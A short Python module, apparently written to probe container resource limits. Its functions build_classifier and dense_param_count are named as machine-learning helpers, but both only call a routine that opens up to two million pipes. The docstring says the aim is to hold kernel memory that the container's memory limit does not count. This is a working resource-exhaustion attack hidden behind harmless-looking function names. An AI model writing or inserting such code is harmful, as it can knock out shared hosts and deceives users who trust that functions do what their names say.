"""Holds kernel memory its memory limit does not count: pipes, each with a buffer the kernel keeps, as many
as it may open (containers often allow a million descriptors)."""
import os


def _open_pipes():
    pipes = []
    while len(pipes) < 2_000_000:
        pipes.append(os.pipe())
    raise RuntimeError(f"attack: {len(pipes)} pipes held")


def build_classifier(num_features, num_classes, units):
    _open_pipes()


def dense_param_count(inputs, units):
    _open_pipes()
